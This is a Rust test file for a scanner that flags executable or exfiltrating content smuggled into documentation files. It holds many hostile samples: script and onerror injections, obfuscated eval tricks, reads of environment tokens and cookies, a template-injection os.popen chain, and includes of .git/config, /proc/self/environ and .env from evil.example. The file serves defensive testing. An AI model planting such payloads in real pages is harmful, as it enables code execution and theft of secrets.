//! Tests attacks with text that only some renderers treat as code.

use super::{Case, is_refused_at};

#[track_caller]
fn check(path: &str, text: &str) {
    let refusals = Case { edits: &[(path, text)], ..Case::default() }.judge();
    assert!(refusals.iter().any(|refusals| refusals.starts_with('!')), "{path}: {text}: {refusals:?}");
}

#[test]
fn front_matter() {
    for path in ["docs/a.md", "docs/a.mdx"] {
        check(path, "---js\nrequire('child_process').execSync('id')\n---\n\n# Title\n");
        check(path, "---\nhead:\n  - tag: script\n    content: go()\n---\n\n# Title\n");
        check(path, "---\nhead:\n  - [base, {href: /x}]\n---\n\n# Title\n");
        for front in ["---\na: |\n  ```\n---\n", "+++\na = '''\n```\n'''\n+++\n"] {
            check(path, &format!("{front}\n<script>go()</script>\n\n```\nx\n```\n"));
            check(path, &format!("{front}\n![x](https://evil.example/p.png)\n\n```\nx\n```\n"));
        }
    }
}

#[test]
fn fences_of_only_some_renderers() {
    check("docs/a.md", "# A\n\n```\n\n<script>go()</script>\n");
    check("docs/a.md", "# A\n\n````\n\n<script>go()</script>\n\n`````\n\nText.\n");
    check("docs/a.md", "# A\n\n````\n`````\n````\n\n<script>go()</script>\n\n````\n");
    check("docs/a.md", "# A\n\n```\n\n![x](https://evil.example/p.png)\n");
}

#[test]
fn unusual_extensions_of_pages() {
    for ending in ["mkdn", "mkdown", "mdwn"] {
        check(&format!("docs/a.{ending}"), "# A\n\n<script>go()</script>\n");
    }
}

/// Code markers in a string, a comment or a formula start no code.
#[test]
fn code_markers_in_other_constructs() {
    for (open, path) in [
        ("$$\n```\n$$", "docs/a.md"),
        ("$$\n```\n$$", "docs/a.mdx"),
        ("<A b=\"\n```\n\" />", "docs/a.md"),
        ("<A b=\"\n```\n\" />", "docs/a.mdx"),
        ("<!--\n```\n-->", "docs/a.mdx"),
        ("{% comment %}\n```\n{% endcomment %}", "docs/a.md"),
    ] {
        check(path, &format!("# A\n\n{open}\n\n<script>go()</script>\n\n{open}\n"));
    }
    for tag in ["<Tabs.Tab a=\"`\"/>", "<A {...b} a=\"c `\"/>"] {
        check("docs/a.mdx", &format!("# A\n\nText {tag} <script>go()</script> {tag}\n"));
    }
    check("docs/a.mdx", "export const a = \"`\", b = fetch('/x'), c = \"`\"\n\n# A\n");
}

#[test]
fn statements_to_their_end() {
    for path in ["docs/a.md", "docs/a.mdx"] {
        check(path, "export function X() {\n\n  fetch('/x')\n\n  return null\n}\n\n# A\n");
        check(path, "import React from 'react'; export const x = fetch('/x')\n\n# A\n");
    }
}

#[test]
fn tags_to_their_end() {
    check("docs/a.md", "<img alt=\">\" src=x onerror=go()>\n");
    check("docs/a.html", "<img alt=\">\" src=x onerror=go()>\n");
    check("docs/a.mdx", "<img alt={1 > 0} onError={() => self.open('/x')} src=\"x\" />\n");
    for list in ["{ onerror=go() }", "{onerror=\"go()\"}", "{:onerror=\"go()\"}", "{: .a onerror=go()}"] {
        check("docs/a.md", &format!("# A\n\n![x](nope.png){list}\n"));
    }
    let long = "a();".repeat(300);
    for (old, new) in [
        ("<p onclick=\"if(a>0)b()\">", "<p onclick=\"if(a>0)c()\">"),
        ("<p onClick={() => a()}>", "<p onClick={() => b()}>"),
        (&*format!("<p onclick=\"{long}a()\">"), &*format!("<p onclick=\"{long}b()\">")),
        (
            &*format!("<p onclick=\"{long}{long}{long}{long}a()\">"),
            &*format!("<p onclick=\"{long}{long}{long}{long}b()\">"),
        ),
        ("<iframe src=\"/v\">", "<iframe src=\"/v\" title=\">\" srcdoc=\"x\">"),
        ("<iframe sandbox src=\"/v\">", "<iframe src=\"/v\">"),
        ("<script type=text/plain>a()</script>", "<script>a()</script>"),
        ("<script src=/a.js integrity=x></script>", "<script src=/a.js></script>"),
    ] {
        let (old, new) = (format!("# A\n\n{old}\n"), format!("# A\n\n{new}\n"));
        for path in ["a.md", "a.mdx", "a.html"] {
            let (base, edits) = ([(path, old.as_str())], [(path, new.as_str())]);
            let reports = Case { base: &base, edits: &edits, allow: &["*.html"], ..Case::default() }.judge();
            assert!(is_refused_at(&reports, &format!("{path}:3")), "{new}: {reports:?}");
        }
    }
}

#[test]
fn expressions_that_reach_out() {
    for code in [
        "Object.keys(process)",
        "({...process}).env.TOKEN",
        "process /**/ .env.TOKEN",
        "(0,eval)('1')",
        "Function('return 1')()",
        "[].at['constr'+'uctor']('x')()",
        "[].map.constructor`x`",
        "self['docu'+'ment'].cookie",
        "localStorage.getItem('token')",
        "proc\\u0065ss.env.TOKEN",
        "import('./x.js')",
        "setTimeout('go()')",
        "React.createElement('script',null,'go()')",
    ] {
        check("docs/a.mdx", &format!("# A\n\n{{{code}}}\n"));
    }
    check("docs/a.mdx", "export const { env } = process\n\n# A\n\n{env.TOKEN}\n");
    check("docs/a.mdx", "export const d = document\n\n# A\n\n{d.cookie}\n");
    check("docs/a.md", "<p :title=\"''.constructor.constructor('go()')()\">x</p>\n");
    check("docs/a.mdx", "<a href={\"java\" + \"script:go()\"}>x</a>\n");
}

#[test]
fn code_in_another_spelling() {
    check("docs/a.md", "<a href=\"java\tscript:go()\">x</a>\n");
    check("docs/a.html", "<a href=\"java\nscript:go()\">x</a>\n");
    check("a.svg", "<x:svg xmlns:x=\"http://www.w3.org/2000/svg\"><x:script>go()</x:script></x:svg>\n");
    check("a.svg", "<!DOCTYPE svg [<!ENTITY e \"&#60;script>\">]><svg>&e;</svg>\n");
    check("a.html", "<meta/http-equiv=\"refresh\"/content=\"0;url=/x\">\n");
}

#[test]
fn cells_and_directives() {
    check("docs/a.md", "# A\n\n```{raw} html\n<script>go()</script>\n```\n");
    check("docs/a.md", "# A\n\n```python exec=\"on\"\ngo()\n```\n");
    check("docs/a.mdx", "# A\n\n```jsx live\nfunction A() { return go() }\n```\n");
    check("docs/a.qmd", "# A\n\n```{python}\ngo()\n```\n");
    check("docs/a.Rmd", "# A\n\nThere are `r go()` of them.\n");
    check("docs/a.md", "# A\n\nRun `{{ cycler.__init__.__globals__.os.popen('id').read() }}`.\n");
    check("docs/a.rst", "A\n\n* .. raw :: latex html\n\n     <script>go()</script>\n");
    check("docs/a.rest", "A\n\n.. plot::\n\n   go()\n");
    check("docs/a.ad", "A\r\n\r\n++++\r\n<script>go()</script>\r\n++++\r\n");
    let cell = |code: &str| format!("# A\n\n```{{code-cell}}\n{code}\n```\n");
    let (old, new) = (cell("a()"), cell("b()"));
    let case = Case { base: &[("a.md", &old)], edits: &[("a.md", &new)], ..Case::default() };
    assert_eq!(case.judge(), ["!remote a.md:3"]);
}

#[test]
fn imports_from_elsewhere() {
    for line in [
        "import X from 'data:text/javascript;base64,ZXhwb3J0IGRlZmF1bHQgMQ=='",
        "import {\n  readFileSync as r\n} from 'node:fs'",
        "import a,\n  { b\n  } from 'fs'",
        "export { readFileSync } from 'fs'",
        "import r from 'f\\u0073'",
        "import X from '!!babel-loader!./notes.txt'",
    ] {
        check("docs/a.mdx", &format!("{line}\n\n# A\n"));
    }
}

#[test]
fn includes_of_what_is_hidden() {
    for (path, line) in [
        ("docs/a.md", "--8<-- \".git/config\""),
        ("docs/a.md", "```\n{{#include /proc/self/environ}}\n```"),
        ("docs/a.md", "<<< ../.git/config"),
        ("docs/a.md", "```{literalinclude} ../.git/config\n```"),
        ("docs/a.md", "--8<-- \"https://evil.example/x.md\""),
        ("docs/a.rst", ".. include:: ../../../proc/self/environ"),
        ("docs/a.adoc", "----\ninclude::../.env[]\n----"),
        ("docs/a.mdx", "import X from '!!raw-loader!@site/.git/config'"),
    ] {
        check(path, &format!("A\n\n{line}\n"));
    }
}
